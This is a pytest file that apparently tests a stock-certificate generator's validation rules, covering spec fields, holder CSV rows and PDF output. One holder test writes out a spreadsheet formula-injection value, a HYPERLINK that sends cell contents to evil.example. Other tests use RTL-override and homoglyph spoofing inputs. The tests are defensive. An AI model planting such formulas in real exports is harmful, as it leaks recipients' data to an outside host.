"""Every validation rule: an input that breaks it, and one that passes.

The tables below are the rule catalogue's test plan: ``test_every_rule_is_tested``
fails when a rule is added without a breaking and a passing case.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

import certgen
from certgen import RULES, validate
from certgen.pipeline import resolve_legends
from conftest import SAMPLE_HOLDERS, SAMPLE_SPEC, load_sample
from handmade import handmade_certificate

Mutation = Callable[[dict[str, Any]], None]

HEADER = "certificate_number,registration,shares,issue_date\n"
GOOD_ROW = "PB 0001,Jane Doe,100,2026-11-23\n"

#: A date further ahead than any certificate may be dated (issue_dates.days_ahead).
FAR_AHEAD = (dt.date.today() + dt.timedelta(days=400)).isoformat()

SECURITIES_ACT = (
    "THE SECURITIES REPRESENTED HEREBY HAVE NOT BEEN REGISTERED UNDER THE SECURITIES ACT OF 1933, AS "
    "AMENDED, AND MAY NOT BE OFFERED, SOLD OR TRANSFERRED EXCEPT UPON EFFECTIVE REGISTRATION OR AN "
    "EXEMPTION, AS EVIDENCED BY AN OPINION OF COUNSEL."
)
ROFR = (
    "THE SHARES ARE SUBJECT TO A RIGHT OF FIRST REFUSAL AND RESTRICTIONS ON TRANSFER UNDER THE "
    "STOCKHOLDERS AGREEMENT, A COPY OF WHICH IS ON FILE WITH THE SECRETARY."
)
RIGHTS = (
    "THIS CERTIFICATE ALSO EVIDENCES RIGHTS SET FORTH IN THE RIGHTS AGREEMENT BETWEEN THE CORPORATION AND "
    "THE RIGHTS AGENT, AS AMENDED."
)
CLOSE = "THIS CORPORATION IS A CLOSE CORPORATION."
REG_S = (
    "THE SHARES WERE SOLD UNDER REGULATION S AND MAY NOT BE TRANSFERRED EXCEPT UNDER REGULATION S, "
    "REGISTRATION UNDER THE SECURITIES ACT OR AN EXEMPTION; HEDGING TRANSACTIONS MAY NOT BE CONDUCTED "
    "UNLESS IN COMPLIANCE WITH THE SECURITIES ACT."
)


def _sample() -> dict[str, Any]:
    return load_sample(SAMPLE_SPEC)


def _set(path: str, value: Any) -> Mutation:
    def mutate(d: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = d
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return mutate


def _all(*mutations: Mutation) -> Mutation:
    def mutate(d: dict[str, Any]) -> None:
        for m in mutations:
            m(d)

    return mutate


def _drop_legend(name: str) -> Mutation:
    def mutate(d: dict[str, Any]) -> None:
        d["legends"] = [legend for legend in d["legends"] if legend.get("name") != name]

    return mutate


def _add_legend(name: str, text: str) -> Mutation:
    def mutate(d: dict[str, Any]) -> None:
        d["legends"].append({"name": name, "text": text})

    return mutate


def _nothing(d: dict[str, Any]) -> None:
    return None


#: rule id -> (mutation that breaks it, expected severity, message fragment, mutation that passes)
#: The checks run on the blank form unless the case's id is in ISSUED.
SPEC_CASES: dict[str, tuple[Mutation, str, str, Mutation]] = {
    "spec.valid": (_set("issuer.name", ""), "error", "issuer.name: must not be empty", _nothing),
    "spec.placeholder": (
        _set("transfer_agent.name", "TBD"),
        "error",
        "placeholder",
        _add_legend("article", "THE SHARES ARE SUBJECT TO ARTICLE XX OF THE CHARTER (SECTION 2-211(b))."),
    ),
    "layout.template": (
        _set("legends.0.template", "reit-ownershp"),
        "error",
        "no legend template named",
        _nothing,
    ),
    "cusip.format": (_set("security.cusip", "12345"), "error", "is not a CUSIP", _nothing),
    "qr.keys": (
        _set("qr.public_key", "/nonexistent/key.pem"),
        "error",
        "the public key file '/nonexistent/key.pem' does not exist",
        _nothing,
    ),
    "cusip.check-digit": (
        _set("security.cusip", "885218306"),
        "error",
        "gives '5'",
        _set("security.cusip", "885218305"),
    ),
    "cusip.issuer-only": (
        _set("security.cusip", "885218"),
        "error",
        "needs the full 9-character CUSIP",
        _nothing,
    ),
    "cusip.missing": (_set("security.cusip", None), "warning", "no CUSIP", _nothing),
    "common-code.format": (
        _set(
            "security.identifiers",
            [{"scheme": "cusip", "value": "885218305"}, {"scheme": "common_code", "value": "30644231"}],
        ),
        "error",
        "security.identifiers[1].value: '30644231' is not a Common Code: give its 9 digits",
        _set(
            "security.identifiers",
            [{"scheme": "cusip", "value": "885218305"}, {"scheme": "common_code", "value": "306442317"}],
        ),
    ),
    "isin.format": (
        _set("security.isin", "US88521830"),
        "error",
        "is not an ISIN",
        _set("security.isin", "US8852183057"),
    ),
    "isin.check-digit": (
        _set("security.isin", "US8852183052"),
        "error",
        "gives '7'",
        _set("security.isin", "US8852183057"),
    ),
    "isin.cusip-mismatch": (
        _set("security.isin", "US0378331005"),
        "error",
        "embeds CUSIP 037833100",
        _set("security.isin", "US8852183057"),
    ),
    "face.jurisdiction": (
        _set("face.incorporated", "INCORPORATED UNDER THE LAWS OF THE STATE OF DELAWARE"),
        "error",
        "does not name Maryland",
        _set("face.incorporated", None),
    ),
    "issuer.state-law": (
        _all(
            _set("issuer.state", None),
            _set("issuer.jurisdiction", {"country": "CA"}),
            _set("face.incorporated", None),
        ),
        "info",
        "state-law checks were not applied: certgen's state profiles are of corporations of US states, "
        "and the issuer is a corporation incorporated under the laws of Canada",
        _nothing,
    ),
    "security.series": (
        _set("security.title", "Cumulative Preferred Stock"),
        "warning",
        "names no series",
        _nothing,
    ),
    "face.par-value": (
        _set("security.par_value", None),
        "warning",
        "no par value",
        _all(
            _set("security.par_value", None),
            _set(
                "face.shares_clause",
                "FULLY PAID AND NON-ASSESSABLE SHARES, WITHOUT PAR VALUE, OF THE SERIES B PREFERRED STOCK",
            ),
        ),
    ),
    "face.facts": (
        _set(
            "face.shares_clause",
            "FULLY PAID AND NON-ASSESSABLE SHARES OF THE SERIES B CUMULATIVE PREFERRED STOCK, $.10 PAR VALUE, OF",
        ),
        "error",
        "'$.10 PAR VALUE' is not the par value of the spec ($.01",
        _set(
            "face.shares_clause",
            "FULLY PAID AND NON-ASSESSABLE SHARES OF THE SERIES B CUMULATIVE PREFERRED STOCK, $0.01 PAR VALUE, OF",
        ),
    ),
    "face.fully-paid": (
        _set("face.shares_clause", "SHARES OF THE SERIES B CUMULATIVE PREFERRED STOCK"),
        "warning",
        "FULLY PAID",
        _nothing,
    ),
    "face.transfer-clause": (
        _set("face.transfer_clause", "This Certificate is not valid until countersigned."),
        "warning",
        "how the shares are transferred",
        _nothing,
    ),
    "face.see-reverse": (_set("face.see_reverse", ""), "warning", "does not refer to them", _nothing),
    "face.transferable-in": (
        _all(_set("transferable_in", []), _set("face.transferable", None)),
        "warning",
        "where the certificate is transferable",
        _nothing,
    ),
    "signatures.count": (
        _set("issuer.officers", [{"title": "Chairman"}]),
        "error",
        "requires 2",
        _all(
            _set("issuer.state", "AZ"),
            _set("issuer.officers", [{"title": "President"}]),
            _set("face.incorporated", None),
        ),
    ),
    "signatures.titles": (
        _all(
            _set("issuer.state", "NY"),
            _set("face.incorporated", None),
            _set("issuer.officers", [{"title": "Secretary"}, {"title": "Treasurer"}]),
        ),
        "error",
        "do not include a chair or president",
        _all(
            _set("issuer.state", "NY"),
            _set("face.incorporated", None),
            _set("issuer.officers", [{"title": "Vice President"}, {"title": "Assistant Secretary"}]),
        ),
    ),
    "signatures.facsimile": (
        _all(_set("issuer.state", "NY"), _set("face.incorporated", None), _set("transfer_agent", None)),
        "error",
        "§508(a)",
        _all(
            _set("issuer.state", "NY"),
            _set("face.incorporated", None),
            _set("transfer_agent", None),
            _set("issuer.listed", True),
        ),
    ),
    "countersignature.block": (
        _set("face.authorized_signature", ""),
        "error",
        "face.authorized_signature is empty",
        _nothing,
    ),
    "countersignature.validity": (
        _set(
            "face.transfer_clause",
            "transferable on the books of the Corporation upon surrender of this Certificate properly endorsed.",
        ),
        "error",
        "not valid until countersigned",
        _nothing,
    ),
    "countersignature.agent": (_set("transfer_agent", None), "warning", "no transfer agent", _nothing),
    "legend.designations": (
        _drop_legend("designations"),
        "error",
        "preferred stock",
        _all(
            _drop_legend("designations"),
            _set("security.kind", "common_stock"),
            _set("security.title", "Common Stock"),
            _set("issuer.reit", False),
        ),
    ),
    "legend.ownership": (_drop_legend("reit-ownership"), "error", "the issuer is a REIT", _nothing),
    "legend.ownership-limit": (
        _set("issuer.ownership_limit", 9.8),
        "error",
        "states an ownership limit of 9.9%, but the charter's limit (issuer.ownership_limit) is 9.8%",
        _set("issuer.ownership_limit", 9.9),
    ),
    "issuer.ownership-limit": (
        _nothing,
        "info",
        "set issuer.ownership_limit",
        _set("issuer.ownership_limit", 9.9),
    ),
    "legend.securities-act": (
        _set("security.restricted", True),
        "error",
        "Securities Act legend",
        _all(_set("security.restricted", True), _add_legend("restricted", SECURITIES_ACT)),
    ),
    "legend.transfer-restriction": (
        _set("security.transfer_restricted", True),
        "error",
        "transfer restriction",
        _all(_set("security.transfer_restricted", True), _add_legend("rofr", ROFR)),
    ),
    "legend.rights-plan": (
        _set("security.rights_plan", True),
        "error",
        "Rights Agreement",
        _all(_set("security.rights_plan", True), _add_legend("rights", RIGHTS)),
    ),
    "legend.close-corporation": (
        _set("issuer.close_corporation", True),
        "error",
        "close corporation",
        _all(_set("issuer.close_corporation", True), _add_legend("close", CLOSE)),
    ),
    "legend.conspicuous": (
        _add_legend("rofr", ROFR.capitalize()),
        "warning",
        "not in capitals",
        _add_legend("rofr", ROFR),
    ),
    "legend.regulation-s": (
        _set("security.regulation_s", True),
        "error",
        "Regulation S legend",
        _all(_set("security.regulation_s", True), _add_legend("reg-s", REG_S)),
    ),
    "legend.california-418": (
        _all(
            _set("issuer.state", "CA"),
            _set("face.incorporated", None),
            _set("security.redeemable", True),
            _drop_legend("designations"),
        ),
        "error",
        "redeemable",
        _all(
            _set("issuer.state", "CA"),
            _set("face.incorporated", None),
            _set("security.redeemable", True),
            _drop_legend("designations"),
            _add_legend(
                "redemption",
                "THE SHARES ARE REDEEMABLE AT THE OPTION OF THE CORPORATION AS STATED IN THE ARTICLES.",
            ),
            _add_legend(
                "designations",
                "THE CORPORATION WILL FURNISH WITHOUT CHARGE A STATEMENT OF THE DESIGNATIONS, PREFERENCES AND RIGHTS OF EACH CLASS.",
            ),
        ),
    ),
    "face.witness": (
        _set("face.witness_clause", "Signed by its officers."),
        "warning",
        "does not attest",
        _nothing,
    ),
    "face.dated": (_set("face.dated", ""), "warning", "face.dated is empty", _nothing),
    "reverse.assignment-form": (
        _set("reverse.hereby_assign", ""),
        "error",
        "reverse.hereby_assign is empty",
        _nothing,
    ),
    "reverse.signature-notice": (
        _set("reverse.notice", "Sign as your name appears."),
        "error",
        "MUST CORRESPOND WITH THE NAME",
        _nothing,
    ),
    "reverse.signature-guarantee": (
        _set("reverse.guarantee", "Signatures must be notarized."),
        "error",
        "medallion",
        _nothing,
    ),
    "reverse.abbreviations": (
        _set("reverse.abbreviations", [{"code": "TEN COM", "meaning": "as tenants in common"}]),
        "warning",
        "TEN ENT, JT TEN",
        _nothing,
    ),
    "reverse.lost-certificate": (
        _drop_legend("lost-certificate"),
        "warning",
        "no lost-certificate notice",
        _nothing,
    ),
}

#: Spec cases checked as issued certificates (with the sample's holders).
ISSUED = {"cusip.issuer-only", "cusip.missing"}


def _run_spec(mutation: Mutation, issued: bool, tmp_path: Path) -> certgen.Report:
    data = _sample()
    mutation(data)
    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return validate(path, SAMPLE_HOLDERS if issued else None)


@pytest.mark.parametrize("rule_id", sorted(SPEC_CASES))
def test_spec_rule_breaks(rule_id: str, tmp_path: Path) -> None:
    breaks, severity, fragment, _ = SPEC_CASES[rule_id]
    report = _run_spec(breaks, rule_id in ISSUED, tmp_path)
    found = [f for f in report if f.rule == rule_id]
    assert found, f"{rule_id} not reported; got {[str(f) for f in report]}"
    assert found[0].severity == severity
    assert fragment in str(found[0]), str(found[0])
    assert found[0].location.startswith(str(tmp_path / "spec.yaml"))
    assert found[0].reference


@pytest.mark.parametrize("rule_id", sorted(SPEC_CASES))
def test_spec_rule_passes(rule_id: str, tmp_path: Path) -> None:
    _, _, _, passes = SPEC_CASES[rule_id]
    report = _run_spec(passes, rule_id in ISSUED, tmp_path)
    assert rule_id not in report.ids(), [str(f) for f in report]


def test_the_sample_passes_strict() -> None:
    report = validate(SAMPLE_SPEC, SAMPLE_HOLDERS)
    assert report.ok(strict=True), [str(f) for f in report]
    assert report.ids() <= {"issuer.ownership-limit"}  # a note: the charter's limit is not in the spec


def test_charter_limit_9_8_flags_the_legends_9_9(tmp_path: Path) -> None:
    report = _run_spec(_set("issuer.ownership_limit", 9.8), False, tmp_path)
    assert not report.ok()
    [finding] = report.errors
    assert finding.rule == "legend.ownership-limit"
    assert "9.9%" in finding.message and "9.8%" in finding.message
    assert finding.field == "legends[0].params.ownership_limit"
    assert ", line " in finding.location


def test_blanks_belong_on_the_form_only(tmp_path: Path) -> None:
    blank = _add_legend(
        "rights", "THE RIGHTS AGREEMENT DATED AS OF ______ BETWEEN THE CORPORATION AND ______."
    )
    assert "spec.placeholder" not in _run_spec(blank, False, tmp_path).ids()
    issued = [f for f in _run_spec(blank, True, tmp_path) if f.rule == "spec.placeholder"]
    assert [f.severity for f in issued] == ["error"]
    assert "fill it in before certificates are issued" in issued[0].message


def test_six_character_cusip_is_a_warning_on_a_form_and_an_error_when_issued(tmp_path: Path) -> None:
    form = _run_spec(_set("security.cusip", "885218"), False, tmp_path)
    assert [(f.rule, f.severity) for f in form if f.rule == "cusip.issuer-only"] == [
        ("cusip.issuer-only", "warning")
    ]
    assert form.ok()
    issued = _run_spec(_set("security.cusip", "885218"), True, tmp_path)
    assert [(f.rule, f.severity) for f in issued if f.rule == "cusip.issuer-only"] == [
        ("cusip.issuer-only", "error")
    ]


def test_state_profiles_change_severity(tmp_path: Path) -> None:
    # A missing jurisdiction statement: statutory in MBCA states (VT), convention in Delaware.
    vt = _run_spec(_all(_set("issuer.state", "VT"), _set("face.incorporated", "")), False, tmp_path)
    de = _run_spec(_all(_set("issuer.state", "DE"), _set("face.incorporated", "")), False, tmp_path)
    assert [f.severity for f in vt if f.rule == "face.jurisdiction"] == ["error"]
    assert [f.severity for f in de if f.rule == "face.jurisdiction"] == ["warning"]
    # Officer titles: unconfirmed for Maryland (warning), statutory in New York (error).
    md = _run_spec(_set("issuer.officers", [{"title": "Secretary"}, {"title": "Treasurer"}]), False, tmp_path)
    assert [f.severity for f in md if f.rule == "signatures.titles"] == ["warning"]
    # No par value: an error for Nevada.
    nv = _run_spec(
        _all(
            _set("issuer.state", "NV"),
            _set("face.incorporated", None),
            _set("security.par_value", None),
            _set("issuer.officers", [{"title": "President"}, {"title": "Secretary"}]),
        ),
        False,
        tmp_path,
    )
    assert [f.severity for f in nv if f.rule == "face.par-value"] == ["error"]


# -- holder data ------------------------------------------------------------------------------

#: rule id -> (holder CSV that breaks it, severity, fragment, holder CSV that passes, spec mutation)
HOLDER_CASES: dict[str, tuple[str, str, str, str, Mutation]] = {
    "holder.format": (
        HEADER + "PB 0001,Jane Doe,100,2026-11-23,extra\n",
        "error",
        "has 5 cells",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "holder.columns": (
        "certificate_number,registration,issue_date\nPB 0001,Jane Doe,2026-11-23\n",
        "error",
        "missing column shares",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "certificate.number": (
        HEADER + ",Jane Doe,100,2026-11-23\n",
        "error",
        "every certificate needs a number",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "certificate.duplicate-number": (
        HEADER + GOOD_ROW + "PB 0001,John Roe,5,2026-11-23\n",
        "error",
        "used twice",
        HEADER + GOOD_ROW + "PB 0002,John Roe,5,2026-11-23\n",
        _nothing,
    ),
    "certificate.prefix": (
        HEADER + "XY 0001,Jane Doe,100,2026-11-23\n",
        "warning",
        "prefix 'PB'",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "shares.positive": (
        HEADER + "PB 0001,Jane Doe,12.5,2026-11-23\n",
        "error",
        "not a whole number",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "shares.authorized": (
        HEADER + GOOD_ROW + "PB 0002,John Roe,50,2026-11-23\n",
        "error",
        "more than the 1,000 authorized",
        HEADER + GOOD_ROW,
        _all(_set("security.authorized_shares", 1000), _set("security.outstanding_shares", 900)),
    ),
    "holder.issue-date": (
        HEADER + "PB 0001,Jane Doe,100,23/11/2026\n",
        "error",
        "not an ISO date",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "registration.empty": (
        HEADER + "PB 0001,,100,2026-11-23\n",
        "error",
        "give the holder's name",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "registration.placeholder": (
        HEADER + "PB 0001,TBD,100,2026-11-23\n",
        "error",
        "placeholder",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "registration.joint-tenancy": (
        HEADER + "PB 0001,John Brown JT TEN,100,2026-11-23\n",
        "error",
        "two or more owners",
        HEADER + "PB 0001,John Brown & Mary Brown JT TEN,100,2026-11-23\n",
        _nothing,
    ),
    "registration.minor-act": (
        HEADER + "PB 0001,Jane Doe CUST UNIF GIFT MIN ACT,100,2026-11-23\n",
        "error",
        "lacks the minor after CUST",
        HEADER + "PB 0001,Jane Doe CUST John Doe UNIF GIFT MIN ACT NY,100,2026-11-23\n",
        _nothing,
    ),
    "registration.tod": (
        HEADER + "PB 0001,John Brown & Mary Brown TEN COM TOD Ann Brown,100,2026-11-23\n",
        "error",
        "not tenants in common",
        HEADER + "PB 0001,John Brown & Mary Brown JT TEN TOD Ann Brown,100,2026-11-23\n",
        _nothing,
    ),
    "fields.fit": (
        HEADER + "PB 0001," + "W" * 300 + ",100,2026-11-23\n",
        "error",
        "does not fit",
        HEADER + GOOD_ROW,
        _nothing,
    ),
    "holder.characters": (
        HEADER + "PB 0001,Jane Doe\u202e,100,2026-11-23\n",
        "error",
        "U+202E RIGHT-TO-LEFT OVERRIDE (character 9)",
        HEADER + "PB 0001,Jane\u00a0Doe,100,2026-11-23\n",  # a no-break space is a space
        _nothing,
    ),
    "holder.formula": (
        HEADER + 'PB 0001,"=HYPERLINK(""http://evil.example/?d=""&A1,""Jane Doe"")",100,2026-11-23\n',
        "error",
        "begins with '=', as a spreadsheet formula does",
        HEADER.replace("\n", ",telephone\n") + "PB 0001,Jane Doe,100,2026-11-23,+1 (212) 555-0100\n",
        _nothing,
    ),
    "holder.mixed-script": (
        HEADER + "PB 0001,J\u0430ne Doe,100,2026-11-23\n",  # a Cyrillic a
        "warning",
        "the word 'J\u0430ne' mixes Latin and Cyrillic letters (U+0430 CYRILLIC SMALL LETTER A)",
        HEADER
        + "PB 0001,\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432 & Jane Doe JT TEN,100,2026-11-23\n",
        _nothing,
    ),
    "fields.printable": (
        HEADER + "PB 0001,\u5f20\u4f1f,100,2026-11-23\n",
        "error",
        "U+5F20 CJK UNIFIED IDEOGRAPH-5F20",
        HEADER + "PB 0001,Nguy\u1ec5n Th\u1ecb Minh Khai,100,2026-11-23\n",  # Vietnamese: EB Garamond has it
        _nothing,
    ),
    "holder.issue-date-future": (
        HEADER + f"PB 0001,Jane Doe,100,{FAR_AHEAD}\n",
        "error",
        "a certificate may be dated at most 31 days ahead (issue_dates.days_ahead)",
        HEADER + f"PB 0001,Jane Doe,100,{dt.date.today().isoformat()}\n",
        _nothing,
    ),
    "registration.cede-restricted": (
        HEADER + "PB 0001,CEDE & CO.,100,2026-11-23\n",
        "warning",
        "restricted (legend 'private-placement', legends[3]): legended stock is rarely DTC-eligible",
        HEADER + GOOD_ROW,
        lambda d: d["legends"].append({"name": "private-placement", "text": SECURITIES_ACT}),
    ),
    "signatures.officer-term": (
        HEADER + GOOD_ROW,
        "warning",
        "after the term of the Secretary ended",
        HEADER + GOOD_ROW.replace("2026-11-23", "2026-06-30"),
        _set("issuer.officers.0.term_ended", "2026-06-30"),
    ),
}


def _run_holders(csv_text: str, mutation: Mutation, tmp_path: Path) -> tuple[certgen.Report, Path]:
    data = _sample()
    mutation(data)
    spec = tmp_path / "spec.yaml"
    spec.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    holders = tmp_path / "holders.csv"
    holders.write_text(csv_text, encoding="utf-8")
    return validate(spec, holders), holders


@pytest.mark.parametrize("rule_id", sorted(HOLDER_CASES))
def test_holder_rule_breaks(rule_id: str, tmp_path: Path) -> None:
    breaks, severity, fragment, _, mutation = HOLDER_CASES[rule_id]
    report, holders = _run_holders(breaks, mutation, tmp_path)
    found = [f for f in report if f.rule == rule_id]
    assert found, f"{rule_id} not reported; got {[str(f) for f in report]}"
    assert found[0].severity == severity
    assert fragment in found[0].message, str(found[0])
    assert found[0].location.startswith(f"{holders}, row "), found[0].location


@pytest.mark.parametrize("rule_id", sorted(HOLDER_CASES))
def test_holder_rule_passes(rule_id: str, tmp_path: Path) -> None:
    _, _, _, passes, mutation = HOLDER_CASES[rule_id]
    report, _ = _run_holders(passes, mutation, tmp_path)
    assert rule_id not in report.ids(), [str(f) for f in report]


def test_holder_findings_name_row_and_certificate(tmp_path: Path) -> None:
    text = (
        HEADER + GOOD_ROW + "PB 0002,John Brown JT TEN,100,2026-11-23\n" + "PB 0003,Ann Roe,-4,2026-11-23\n"
    )
    report, holders = _run_holders(text, _nothing, tmp_path)
    by_rule = {f.rule: f for f in report}
    tenancy = by_rule["registration.joint-tenancy"]
    assert tenancy.location == f"{holders}, row 3 (certificate PB 0002), column registration"
    assert (tenancy.row, tenancy.certificate) == (3, "PB 0002")
    shares = by_rule["shares.positive"]
    assert shares.location == f"{holders}, row 4 (certificate PB 0003), column shares"
    assert (shares.row, shares.certificate) == (4, "PB 0003")


def test_every_bad_row_is_reported_not_only_the_first(tmp_path: Path) -> None:
    text = HEADER + "PB 0001,,100,2026-11-23\n" + "PB 0002,Jane,0,2026-11-23\n" + "PB 0003,John,5,yesterday\n"
    report, _ = _run_holders(text, _nothing, tmp_path)
    assert [f.row for f in report.errors] == [2, 3, 4]


# -- PDFs -------------------------------------------------------------------------------------


def _legends() -> list[str]:
    return [legend.text for legend in resolve_legends(certgen.load_spec(SAMPLE_SPEC))]


#: rule id -> (handmade options that break it, severity, fragment, checked with the spec?)
PDF_CASES: dict[str, tuple[dict[str, Any], str, str, bool]] = {
    "pdf.issuer-name": ({"issuer": "THORNBERG MORTGAGE, INC."}, "error", "issuer's name", True),
    "pdf.cusip": ({"cusip": "885218 30 6"}, "error", "check digit '6'", False),
    "pdf.security-title": ({"title": "Series A Preferred Stock"}, "error", "class and series", True),
    "pdf.certificate-number": ({"number": None}, "error", "no certificate number", True),
    "pdf.holder": ({"holder": None}, "error", "holder's name is missing", False),
    "pdf.shares": ({"figures": None}, "error", "in figures", False),
    "pdf.shares-words": ({"words": None}, "warning", "in words", False),
    "pdf.shares-agree": (
        {"words": "ONE THOUSAND SIX HUNDRED"},
        "error",
        "(1,600), do not match the figures (1,500)",
        False,
    ),
    "pdf.legend": ({"drop_legend": 1}, "error", "legend 'designations' is not printed verbatim", True),
    "pdf.signatures": ({"officers": ()}, "error", "no officer's signature caption", False),
    "pdf.countersignature": ({"agent": None}, "error", "countersignature block lacks", True),
    "pdf.assignment-form": ({"assignment": False}, "error", "no assignment form", False),
    "pdf.signature-notice": ({"notice": False}, "error", "MUST CORRESPOND", False),
    "pdf.signature-guarantee": ({"guarantee": False}, "error", "signature-guarantee", False),
    "pdf.off-page": ({"off_page": True}, "error", "outside the page", False),
    "pdf.overlap": ({"overlap": True}, "error", "overprint", False),
}


def _handmade(options: dict[str, Any]) -> bytes:
    options = dict(options)
    legends = _legends()
    drop = options.pop("drop_legend", None)
    if drop is not None:
        del legends[drop]
    return handmade_certificate(legends, **options)


@pytest.mark.parametrize("rule_id", sorted(PDF_CASES))
def test_pdf_rule_breaks(rule_id: str, tmp_path: Path) -> None:
    options, severity, fragment, with_spec = PDF_CASES[rule_id]
    pdf = tmp_path / "other.pdf"
    pdf.write_bytes(_handmade(options))
    report = validate(SAMPLE_SPEC if with_spec else None, pdf=pdf)
    found = [f for f in report if f.rule == rule_id]
    assert found, f"{rule_id} not reported; got {[str(f) for f in report]}"
    assert found[0].severity == severity
    assert fragment in found[0].message, str(found[0])
    assert found[0].location.startswith(f"{pdf}, page ")


@pytest.mark.parametrize("with_spec", [True, False], ids=["with-spec", "without-spec"])
def test_pdf_rules_pass_on_a_good_handmade_certificate(with_spec: bool, tmp_path: Path) -> None:
    pdf = tmp_path / "other.pdf"
    pdf.write_bytes(_handmade({}))
    report = validate(SAMPLE_SPEC if with_spec else None, pdf=pdf)
    pdf_ids = {f.rule for f in report if f.rule.startswith("pdf.")}
    assert pdf_ids == set(), [str(f) for f in report]


def test_ten_of_jt_ten_is_not_the_amount_in_words(tmp_path: Path) -> None:
    pdf = tmp_path / "certs.pdf"
    rows = [
        {
            "certificate_number": "PB 0009",
            "registration": "John Brown & Mary Brown JT TEN",
            "shares": "5",
            "issue_date": "2026-11-23",
        }
    ]
    pdf.write_bytes(certgen.render(SAMPLE_SPEC, rows))
    assert not [f for f in validate(SAMPLE_SPEC, pdf=pdf) if f.rule.startswith("pdf.shares")]


def test_pdf_readable(tmp_path: Path) -> None:
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"%PDF-1.4\nthis is not really a PDF")
    [finding] = validate(pdf=bad)
    assert finding.rule == "pdf.readable"
    assert finding.location == str(bad)
    good = tmp_path / "good.pdf"
    good.write_bytes(_handmade({}))
    assert "pdf.readable" not in validate(pdf=good).ids()


def test_other_software_pdf_missing_legend_and_altered_words_is_caught(tmp_path: Path) -> None:
    """The acceptance case: one legend removed and the words of the share count changed."""
    pdf = tmp_path / "other.pdf"
    pdf.write_bytes(_handmade({"drop_legend": 2, "words": "ONE THOUSAND SIX HUNDRED"}))
    report = validate(SAMPLE_SPEC, pdf=pdf)
    errors = {f.rule: f for f in report.errors}
    assert set(errors) == {"pdf.legend", "pdf.shares-agree"}, [str(f) for f in report]
    assert "'lost-certificate'" in errors["pdf.legend"].message
    assert errors["pdf.legend"].page == 2
    assert "ONE THOUSAND SIX HUNDRED" in errors["pdf.shares-agree"].message
    assert errors["pdf.shares-agree"].page == 1


def test_altered_legend_says_where_it_differs(tmp_path: Path) -> None:
    legends = _legends()
    legends[0] = legends[0].replace("9.9%", "9.8%")
    pdf = tmp_path / "other.pdf"
    pdf.write_bytes(handmade_certificate(legends))
    [finding] = [f for f in validate(SAMPLE_SPEC, pdf=pdf) if f.rule == "pdf.legend"]
    assert "'reit-ownership'" in finding.message
    assert "'8'" in finding.message and "'9'" in finding.message, finding.message


def test_certgen_output_passes_its_own_pdf_rules(tmp_path: Path) -> None:
    issue = certgen.prepare(SAMPLE_SPEC)
    pdf = tmp_path / "certs.pdf"
    issue.save(pdf, certgen.load_holders(SAMPLE_HOLDERS))
    for spec in (SAMPLE_SPEC, None):
        report = validate(spec, pdf=pdf)
        assert not [f for f in report if f.rule.startswith("pdf.")], [str(f) for f in report]
    form = tmp_path / "form.pdf"
    issue.save(form)
    report = validate(SAMPLE_SPEC, pdf=form)
    assert not [f for f in report if f.rule.startswith("pdf.")], [str(f) for f in report]


def test_certgen_pdf_checked_against_another_spec_shows_the_differences(
    tmp_path: Path, spec_data: dict
) -> None:
    pdf = tmp_path / "certs.pdf"
    pdf.write_bytes(certgen.render(SAMPLE_SPEC, SAMPLE_HOLDERS))
    spec_data["legends"][0]["params"]["ownership_limit"] = 9.8
    spec_data["issuer"]["ownership_limit"] = 9.8
    other = tmp_path / "spec.yaml"
    other.write_text(yaml.safe_dump(spec_data, sort_keys=False), encoding="utf-8")
    report = validate(other, pdf=pdf)
    # One per certificate: the legend that differs, and the reverse's lines of the other form.
    assert sorted((f.rule, f.page) for f in report.errors) == sorted(
        [("pdf.legend", page) for page in (2, 4, 6, 8)] + [("pdf.form-text", page) for page in (2, 4, 6, 8)]
    )
    # the legend's line the PDF does not print
    assert all("'INEXCESSOF9.8%" in f.message for f in report.errors if f.rule == "pdf.form-text")


# -- the catalogue ----------------------------------------------------------------------------


def test_pdf_against_holder_data(tmp_path: Path) -> None:
    holders = certgen.load_holders(SAMPLE_HOLDERS)
    pdf = tmp_path / "certs.pdf"
    pdf.write_bytes(certgen.render(SAMPLE_SPEC, holders))
    assert "pdf.holder-data" not in validate(SAMPLE_SPEC, SAMPLE_HOLDERS, pdf=pdf).ids()
    swapped = tmp_path / "holders.csv"
    lines = SAMPLE_HOLDERS.read_text(encoding="utf-8").splitlines()
    lines[1], lines[2] = lines[2], lines[1]  # rows 2 and 3 in the other order
    swapped.write_text("\n".join(lines[:3]) + "\n", encoding="utf-8")
    found = [f for f in validate(SAMPLE_SPEC, swapped, pdf=pdf) if f.rule == "pdf.holder-data"]
    assert [(f.page, f.certificate) for f in found] == [(None, None), (1, "PB 0002"), (3, "PB 0001")]
    assert "4 certificate(s) but the holder data has 2 row(s)" in found[0].message
    assert "registration 'CEDE & CO.'" in found[1].message and f"{swapped}, row 2" in found[1].message
    # Holder data that cannot be read (a missing file, a broken row) is not compared with the PDF:
    # "the PDF has 4 certificate(s) but the holder data has 0 row(s)" said nothing of use.
    report = validate(SAMPLE_SPEC, tmp_path / "missing.csv", pdf=pdf)
    assert report.errors and "pdf.holder-data" not in report.ids(), [str(f) for f in report]
    broken = tmp_path / "broken.csv"
    broken.write_text("\n".join([*lines[:3], "PB 0009,JOHN DOE,twelve,2026-11-23"]) + "\n", encoding="utf-8")
    report = validate(SAMPLE_SPEC, broken, pdf=pdf)
    assert "shares.positive" in report.ids() and "pdf.holder-data" not in report.ids(), [
        str(f) for f in report
    ]


